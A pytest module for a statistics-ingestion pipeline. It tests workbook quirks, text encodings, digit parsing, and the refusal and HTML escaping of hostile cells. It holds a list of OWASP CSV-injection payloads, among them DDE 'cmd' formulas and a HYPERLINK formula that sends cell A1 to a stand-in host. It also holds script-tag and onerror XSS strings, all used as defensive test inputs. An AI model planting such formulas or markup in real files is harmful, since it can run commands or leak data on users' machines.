"""Files as people really make them, and as an attacker would: workbooks, odd encodings, injections, markup."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import OBS_HEADER, write_obs
from openpyxl import Workbook
from test_ingest import SRC, ingest_all

from orchestration import settings
from orchestration.domain.families import OBSERVATIONS
from orchestration.domain.parsing import ParseError, parse_number, parse_period
from orchestration.read.reading import read_batch
from orchestration.store.warehouse import Warehouse

ROW = ["330800", "URBANISATION", "2021", None, "%", "level", "normal", "exact", "60.6%", SRC, ""]


def workbook(path: Path, value=58.1, number_format: str = "General", extra_sheet: str | None = None, merge: bool = False) -> Path:
    book = Workbook()
    sheet = book.active
    sheet.append(OBS_HEADER.strip().split(","))
    sheet.append([*ROW[:3], value, *ROW[4:]])
    sheet.append(["330801", *ROW[1:3], value, *ROW[4:]])
    sheet["D2"].number_format = number_format
    if extra_sheet:
        hidden = book.create_sheet(extra_sheet)
        hidden.append(OBS_HEADER.strip().split(","))
        hidden.sheet_state = "hidden"
    if merge:
        sheet.merge_cells("A2:A3")
    book.save(path)
    return path


def read(path: Path):
    return read_batch(OBSERVATIONS, path, path.name, {"URBANISATION": "%"})


def test_a_percent_cell_is_read_as_the_workbook_shows_it(tmp_path):
    batch = read(workbook(tmp_path / "pct.xlsx", value=0.606, number_format="0.0%"))
    assert batch.issues == []
    assert batch.frame.loc[0, ["value", "value_decimals", "value_text"]].tolist() == [60.6, 1, "60.6%"]


@pytest.mark.parametrize(
    ("kwargs", "rule", "words"),
    [
        ({"extra_sheet": "draft"}, "xlsx_sheets", "'draft' (hidden)"),
        ({"merge": True}, "xlsx_merged", "A2:A3"),
        ({"number_format": "yyyy-mm-dd"}, "xlsx_format", "D2"),
    ],
)
def test_workbooks_that_do_not_show_one_plain_table_are_refused(tmp_path, kwargs, rule, words):
    batch = read(workbook(tmp_path / "book.xlsx", **kwargs))
    assert [(i.rule, words in i.message) for i in batch.issues] == [(rule, True)]


def write_bytes(tmp_path: Path, data: bytes) -> Path:
    path = tmp_path / "file.csv"
    path.write_bytes(data)
    return path


def test_cr_only_line_endings_and_utf16_are_read(tmp_path):
    text = OBS_HEADER + f"330800,URBANISATION,2021,58.1,%,level,normal,exact,58.1%,{SRC},\n"
    for data, encoding in [(text.replace("\n", "\r").encode(), "utf-8-sig"), (text.encode("utf-16"), "utf-16")]:
        batch = read(write_bytes(tmp_path, data))
        assert (batch.issues, batch.rows_read, batch.encoding) == ([], 1, encoding)
        assert batch.frame.loc[0, "value"] == 58.1


def test_utf16_without_a_mark_and_mixed_encodings_are_refused(tmp_path):
    text = OBS_HEADER + f"330800,URBANISATION,2021,58.1,%,level,normal,exact,城镇化率58.1%,{SRC},\n"
    unmarked = read(write_bytes(tmp_path, text.encode("utf-16-le")))
    assert [(i.rule, "UTF-16" in i.message) for i in unmarked.issues] == [("encoding", True)]
    mixed = text.encode("utf-8") + f"330801,URBANISATION,2021,58.1,%,level,normal,exact,城镇化率,{SRC},\n".encode("gb18030")
    refused = read(write_bytes(tmp_path, mixed))
    assert [(i.rule, "line 3 is not" in i.message) for i in refused.issues] == [("encoding", True)]


@pytest.mark.parametrize("text", ["٢٠٢١", "𝟐𝟎𝟐𝟏", "२०२१"])
def test_only_ascii_and_full_width_digits_count(text):
    with pytest.raises(ParseError):
        parse_number(text)
    with pytest.raises(ParseError):
        parse_period(text)
    assert parse_number("２０２１").value == 2021


# OWASP CSV injection payloads (owasp.org/www-community/attacks/CSV_Injection) and their variants.
OWASP = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?leak="&A1,"Error: click")',
    "\t=1+1",
    "-1+1",
    "＝cmd|' /C calc'!A0",
]


def test_spreadsheet_formulas_are_refused_in_every_text_column(raw_copy, tmp_path):
    for n, payload in enumerate(OWASP):
        quoted = '"' + payload.replace('"', '""') + '"'
        write_obs(
            raw_copy,
            f"inject-{n}.csv",
            f"330800,URBANISATION,2021,58.1,%,level,normal,exact,{quoted},{SRC},",
            f"330801,URBANISATION,2021,58.1,%,level,normal,exact,58.1%,{SRC},{quoted}",
        )
    write_obs(raw_copy, "signed-numbers.csv", f"330800,URBANISATION,2021,58.1,%,level,normal,exact,+4.8%,{SRC},-3.2")
    outcomes = ingest_all(raw_copy, Warehouse(tmp_path / "data"))
    for n, payload in enumerate(OWASP):
        issues = outcomes[f"observations/inject-{n}.csv"].issues
        assert {(i.row, i.column) for i in issues} == {(2, "as_published"), (3, "note")}, payload
    assert outcomes["observations/signed-numbers.csv"].status == "loaded"


def test_markup_in_a_refused_cell_never_reaches_a_page_unescaped(raw_copy, tmp_path):
    script = "<script>alert(1)</script>"
    write_obs(
        raw_copy, "xss.csv", f"{script},URBANISATION,2021,58.1,%,level,normal,exact,58.1%,{SRC},<img src=x onerror=alert(2)>"
    )
    warehouse = Warehouse(tmp_path / "data")
    outcome = ingest_all(raw_copy, warehouse, data_docs=True)["observations/xss.csv"]
    assert outcome.status == "quarantined"
    assert any(i.value == script for i in outcome.issues)  # stored as published, for the steward
    pages = list(settings.data_docs_dir(warehouse.data_dir).rglob("*.html"))
    assert pages
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert "<script>alert" not in html and "<img src=x" not in html, page
    assert any(
        "&lt;script&gt;alert" in p.read_text(encoding="utf-8") or "&amp;lt;script" in p.read_text(encoding="utf-8") for p in pages
    )


def test_a_refused_file_shows_only_a_short_excerpt(raw_copy, tmp_path):
    long_cell = "x" * 5000
    write_obs(raw_copy, "long.csv", f"330800,URBANISATION,2021,{long_cell},%,level,normal,exact,58.1%,{SRC},")
    issue = ingest_all(raw_copy, Warehouse(tmp_path / "data"))["observations/long.csv"].issues[0]
    assert len(issue.value) <= 61 and len(issue.message) <= 401


@pytest.mark.parametrize("marker", ["-", "--", "—", "…", "－"])
def test_a_cell_that_is_only_a_nil_marker_is_not_a_formula(raw_copy, tmp_path, marker):
    """Yearbooks print "-" for nil: as the value and as published, it is a missing figure, not an injection."""
    write_obs(raw_copy, "nil.csv", f"330800,URBANISATION,2021,{marker},%,level,normal,exact,{marker},{SRC},")
    write_obs(raw_copy, "formula.csv", f"330800,URBANISATION,2021,1,%,level,normal,exact,-1+cmd|' /C calc'!A0,{SRC},")
    outcomes = ingest_all(raw_copy, Warehouse(tmp_path / "data"))
    assert (outcomes["observations/nil.csv"].status, outcomes["observations/nil.csv"].rows) == ("loaded", 1)
    refused = outcomes["observations/formula.csv"]
    assert [(i.column, i.rule) for i in refused.issues] == [("as_published", "expect_column_values_to_not_match_regex")]
